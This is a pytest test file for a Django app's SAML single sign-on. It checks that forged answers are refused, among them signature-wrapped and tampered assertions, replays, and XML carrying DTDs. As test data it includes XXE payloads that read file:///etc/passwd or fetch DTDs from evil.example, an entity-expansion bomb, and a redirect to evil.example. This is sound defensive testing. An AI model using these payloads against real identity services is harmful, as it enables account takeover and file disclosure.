"""Single sign-on by SAML, with answers signed as a provider signs them, and forged ones."""

import base64
import re
import textwrap
import uuid
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit
from xml.etree.ElementTree import fromstring

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from django.http import HttpResponse
from django.test import Client
from onelogin.saml2.constants import OneLogin_Saml2_Constants as Saml
from onelogin.saml2.utils import OneLogin_Saml2_Utils

from musterbook import jobs
from musterbook.accounts import saml as provider_answers
from musterbook.accounts.claims import Untrusted
from musterbook.accounts.models import Account
from musterbook.directory import models
from musterbook.directory.agency import sign_on
from tests.accounts.conftest import Springfield
from tests.accounts.test_entrance import HOME, read_username
from tests.accounts.test_sign_on import add_provider, oidc_settings

pytestmark = pytest.mark.any_database

SAML = "/springfield/sign-in/with/saml/county/"


@pytest.fixture
def client() -> Client:
    """A browser: it names the host that it asks, as SAML wants it."""
    return Client(headers={"Host": "testserver"})


# SAML: the provider is a key and a certificate, made here; its answers are signed as a provider signs them.

METADATA = f"http://localhost:8000{SAML}metadata/"
ACS = f"http://localhost:8000{SAML}acs/"
ENTITY = "https://idp.county.example/"


class Idp:
    """A provider that signs what it is told to."""

    def __init__(self) -> None:
        self.key = rsa.generate_private_key(65537, 2048)
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "idp")])
        now = jobs.now()
        made = (
            x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(self.key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - timedelta(days=1))
            .not_valid_after(now + timedelta(days=1)).sign(self.key, hashes.SHA256())
        )  # fmt: skip
        self.certificate = made.public_bytes(serialization.Encoding.PEM).decode()

    def signed(self, assertion: str) -> str:
        """The assertion with the provider's signature."""
        pem = self.key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
        result: bytes | str = OneLogin_Saml2_Utils.add_sign(
            assertion, pem.decode(), self.certificate, sign_algorithm=Saml.RSA_SHA256, digest_algorithm=Saml.SHA256
        )
        return result.decode() if isinstance(result, bytes) else result


@pytest.fixture(scope="module")
def idp() -> Idp:
    """The provider."""
    return Idp()


@pytest.fixture
def saml(springfield: Springfield, idp: Idp) -> Springfield:
    """The agency, whose users sign in by the provider."""
    add_provider(
        springfield, kind="saml", entity_id=ENTITY, sso_url="https://idp.county.example/sso",
        certificate=idp.certificate, secret="",
    )  # fmt: skip
    return springfield


def begin_request(client: Client) -> str:
    """Begins, and gives the number of the request that goes to the provider."""
    address = str(client.post(f"{SAML}login/").headers["Location"])
    packed = parse_qs(urlsplit(address).query)["SAMLRequest"][0]
    request = OneLogin_Saml2_Utils.decode_base64_and_inflate(packed).decode()
    found = re.search(r'ID="([^"]+)"', request)
    assert found
    return found.group(1)


def assertion(to: str, email: str = "user2@agency.example", audience: str = METADATA, minutes: int = 0) -> str:
    """What a provider says of somebody, unsigned."""
    now = jobs.now() + timedelta(minutes=minutes)
    stamp, later, before = (
        f"{at:%Y-%m-%dT%H:%M:%SZ}" for at in (now, now + timedelta(minutes=5), now - timedelta(minutes=5))
    )
    return textwrap.dedent(f"""\
        <saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_{uuid.uuid4().hex}"
         Version="2.0" IssueInstant="{stamp}"><saml:Issuer>{ENTITY}</saml:Issuer>
        <saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent">p-2</saml:NameID>
        <saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">
        <saml:SubjectConfirmationData InResponseTo="{to}" NotOnOrAfter="{later}" Recipient="{ACS}"/>
        </saml:SubjectConfirmation></saml:Subject>
        <saml:Conditions NotBefore="{before}" NotOnOrAfter="{later}"><saml:AudienceRestriction>
        <saml:Audience>{audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions>
        <saml:AuthnStatement AuthnInstant="{stamp}" SessionIndex="_1"><saml:AuthnContext>
        <saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef>
        </saml:AuthnContext></saml:AuthnStatement>
        <saml:AttributeStatement>
        <saml:Attribute Name="http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress">
        <saml:AttributeValue>{email}</saml:AttributeValue></saml:Attribute>
        <saml:Attribute Name="employee"><saml:AttributeValue>E-2</saml:AttributeValue></saml:Attribute>
        </saml:AttributeStatement></saml:Assertion>""")


def response(to: str, *assertions: str) -> str:
    """An answer with these assertions, as a browser brings it."""
    stamp = f"{jobs.now():%Y-%m-%dT%H:%M:%SZ}"
    asked_by = f'InResponseTo="{to}" ' if to else ""
    xml = (
        f'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_{uuid.uuid4().hex}" Version="2.0" '
        f'IssueInstant="{stamp}" {asked_by}Destination="{ACS}">'
        f'<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">{ENTITY}</saml:Issuer>'
        '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
        f"{''.join(assertions)}</samlp:Response>"
    )
    return base64.b64encode(xml.encode()).decode()


def bring(client: Client, answer: str, relay: str = "") -> HttpResponse:
    """The browser brings the answer, and goes where it is sent."""
    step = client.post(f"{SAML}acs/", {"SAMLResponse": answer, "RelayState": relay})
    return client.get(step.headers["Location"])  # type: ignore[return-value]


def test_a_user_comes_in_by_saml(saml: Springfield, idp: Idp, client: Client) -> None:
    number = begin_request(client)
    assert bring(client, response(number, idp.signed(assertion(number)))).headers["Location"] == HOME
    assert read_username(client) == "user.2"


def test_the_address_of_a_provider_may_have_a_query_of_its_own(
    springfield: Springfield, idp: Idp, client: Client
) -> None:
    at = "https://idp.county.example/sso?app=1&lt=2"
    add_provider(springfield, kind="saml", entity_id=ENTITY, sso_url=at, certificate=idp.certificate, secret="")
    address = str(client.post(f"{SAML}login/").headers["Location"])
    assert address.startswith(f"{at}&SAMLRequest=")
    packed = parse_qs(urlsplit(address).query)["SAMLRequest"][0]
    request = fromstring(OneLogin_Saml2_Utils.decode_base64_and_inflate(packed))
    assert request.get("Destination") == at


def test_by_saml_an_attribute_may_hold_the_external_id(saml: Springfield, idp: Idp, client: Client) -> None:
    add_provider(saml, **(oidc_settings(saml) | {"match": "external_id", "claim": "employee"}))
    number = begin_request(client)
    bring(client, response(number, idp.signed(assertion(number, email="someone@else.example"))))
    assert read_username(client) == "user.2"


def test_a_person_of_saml_that_the_agency_does_not_know_is_refused(saml: Springfield, idp: Idp, client: Client) -> None:
    for email in ("nobody@agency.example", "user3@agency.example"):
        number = begin_request(client)
        assert bring(client, response(number, idp.signed(assertion(number, email)))).status_code == 403
    assert read_username(client) == ""


def _unsigned(_: Idp, number: str) -> str:
    return response(number, assertion(number))


def _by_another_key(_: Idp, number: str) -> str:
    return response(number, Idp().signed(assertion(number)))


def _changed_after_signing(idp: Idp, number: str) -> str:
    signed = idp.signed(assertion(number)).replace("user2@agency.example", "user1@agency.example")
    return response(number, signed)


def _wrapped(idp: Idp, number: str) -> str:
    """The signed assertion stays, and an unsigned one about somebody else is put before it."""
    return response(number, assertion(number, "user1@agency.example"), idp.signed(assertion(number)))


def _wrapped_after(idp: Idp, number: str) -> str:
    return response(number, idp.signed(assertion(number)), assertion(number, "user1@agency.example"))


def _for_another(idp: Idp, number: str) -> str:
    return response(number, idp.signed(assertion(number, audience=METADATA.replace("springfield", "shelbyville"))))


def _expired(idp: Idp, number: str) -> str:
    return response(number, idp.signed(assertion(number, minutes=-60)))


def _unasked(idp: Idp, _: str) -> str:
    return response("", idp.signed(assertion("")))


def _to_another_request(idp: Idp, _: str) -> str:
    return response("ONELOGIN_other", idp.signed(assertion("ONELOGIN_other")))


def _nothing(_: Idp, __: str) -> str:
    return "no base64"


def _entity(idp: Idp, number: str) -> str:
    bomb = b'<!DOCTYPE x [<!ENTITY y "z">]>'
    return base64.b64encode(bomb + base64.b64decode(response(number, idp.signed(assertion(number))))).decode()


@pytest.mark.parametrize(
    "forged",
    [
        _unsigned, _by_another_key, _changed_after_signing, _wrapped, _wrapped_after, _for_another, _expired, _unasked,
        _to_another_request, _nothing, _entity,
    ],
)  # fmt: skip
def test_a_forged_answer_lets_nobody_in(saml: Springfield, idp: Idp, client: Client, forged: Any) -> None:
    number = begin_request(client)
    answer = bring(client, forged(idp, number))
    assert answer.status_code == 403 or answer.headers["Location"] == "/springfield/sign-in/failed"
    assert client.get("/springfield/sign-in").status_code == 200
    assert read_username(client) == ""
    assert not Account.objects.exists()


@pytest.mark.parametrize(
    "before",
    [
        "<!DOCTYPE x>", '<!DOCTYPE x [<!ENTITY y "user2">]>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % y SYSTEM "https://evil.example/x.dtd"> %y;]>', '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>',
    ],
)  # fmt: skip
@pytest.mark.parametrize("declared", ["", '<?xml version="1.0"?>'])
def test_a_good_answer_with_a_document_type_is_refused_for_that_alone(
    saml: Springfield, idp: Idp, client: Client, before: str, declared: str
) -> None:
    number, start = begin_request(client), METADATA.removesuffix("/metadata/")
    good = base64.b64decode(response(number, idp.signed(assertion(number)))).decode()
    provider = sign_on.find_provider(models.Agency.objects.get(pk=saml.agency.pk), "county")
    assert provider_answers.finish(provider, _sent(declared + good), start)[0] == number
    with pytest.raises(Untrusted) as refused:
        provider_answers.finish(provider, _sent(declared + before + good), start)
    assert "DTDForbidden" in str(refused.value) or "DTDForbidden" in repr(refused.value.__cause__)
    bring(client, _sent(declared + before + good))
    assert read_username(client) == "" and not Account.objects.exists()


def _sent(answer: str) -> str:
    return base64.b64encode(answer.encode()).decode()


def test_an_answer_is_used_once(saml: Springfield, idp: Idp, client: Client) -> None:
    number = begin_request(client)
    answer = response(number, idp.signed(assertion(number)))
    bring(client, answer)
    client.post("/springfield/sign-out")
    bring(client, answer)
    assert read_username(client) == ""
    other = Client(headers={"Host": "testserver"})
    bring(other, answer)
    assert read_username(other) == ""


def test_saml_leads_nowhere_else_afterwards(saml: Springfield, idp: Idp, client: Client) -> None:
    number = begin_request(client)
    answer = response(number, idp.signed(assertion(number)))
    assert bring(client, answer, "https://evil.example/").headers["Location"] == HOME


def test_the_metadata_name_this_agencys_addresses(saml: Springfield, client: Client) -> None:
    metadata = client.get(f"{SAML}metadata/").content.decode()
    assert ACS in metadata
    assert client.get(SAML.replace("county", "city") + "metadata/").status_code == 404
